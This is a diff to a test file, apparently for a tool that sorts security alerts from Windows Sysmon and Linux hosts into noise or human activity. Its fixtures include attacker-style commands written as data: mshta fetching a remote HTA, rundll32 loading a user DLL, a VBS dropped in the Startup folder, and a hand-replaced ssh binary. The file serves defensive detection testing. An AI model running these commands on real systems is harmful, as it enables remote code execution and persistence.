@@ -34,6 +34,36 @@ describe('Windows programs, tasks and libraries', () => {
   })
 })
 
+describe('programs of Windows and what people download', () => {
+  const started = (image: string, commandLine: string): AlertParts => ({
+    rule: [
+      '92032',
+      3,
+      'Suspicious Windows cmd shell execution',
+      ['sysmon', 'sysmon_eid1_detections', 'windows'],
+    ],
+    data: sysmonProcess({ image: `C:\\Windows\\System32\\${image}`, commandLine }),
+  })
+  check('a ping', 'noise', started('PING.EXE', 'ping -n 1 10.1.2.3'))
+  check('an installer from the network', 'person', started('mshta.exe', 'mshta http://192.0.2.9/a.hta'))
+  check('a library of a user', 'person', started('rundll32.exe', 'rundll32 C:\\Users\\ann\\a.dll,Start'))
+  const wrote = (image: string, targetFilename: string): AlertParts => ({
+    rule: ['92200', 6, 'File created', ['sysmon', 'sysmon_eid11_detections', 'windows']],
+    data: windowsEvent('11', 'Microsoft-Windows-Sysmon/Operational', { image, targetFilename }),
+  })
+  const startup = 'C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\'
+  check('a browser saves an installer', 'noise', {
+    ...wrote(
+      'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+      'C:\\Users\\ann\\Downloads\\zoom.exe',
+    ),
+  })
+  check('a product puts its link where Windows starts it', 'noise', {
+    ...wrote('C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE', `${startup}OneNote.lnk`),
+  })
+  check('a script there', 'person', wrote('C:\\Windows\\System32\\wscript.exe', `${startup}sync.vbs`))
+})
+
 describe('Linux hosts', () => {
   const promiscuous = (dev: string, auid: string): AlertParts => ({
     rule: ['80710', 10, 'Auditd: Device enables promiscuous mode.', ['audit']],
@@ -72,6 +102,22 @@ describe('Linux hosts', () => {
   check('the test file for antivirus programs', 'noise', {
     rule: ['52502', 8, 'ClamAV: Virus detected', ['clamd', 'virus']],
     data: { url: '/tmp/t.txt', extra_data: 'Win.Test.EICAR_HDB-1' },
+  })
+  check('a program of the system that was replaced by hand', 'person', {
+    ...site({ path: '/usr/bin/ssh', ...writtenBy('/usr/bin/cp', 'ann') }),
+  })
+  check(
+    'the same by its package',
+    'noise',
+    site({ path: '/usr/bin/ssh', ...writtenBy('/usr/bin/dpkg', 'root') }),
+  )
+  check('a group of a service', 'noise', {
+    rule: ['5901', 8, 'New group added to the system.', ['syslog', 'adduser']],
+    data: { dstuser: 'docker', gid: '998' },
+  })
+  check('a rule that nothing but its level speaks for', 'noise', {
+    rule: ['100900', 7, 'Own rule', ['local']],
+    log: 'x',
   })
   const logged = (log: string): AlertParts => ({
     rule: ['40700', 3, 'Systemd: Unit started', ['systemd']],
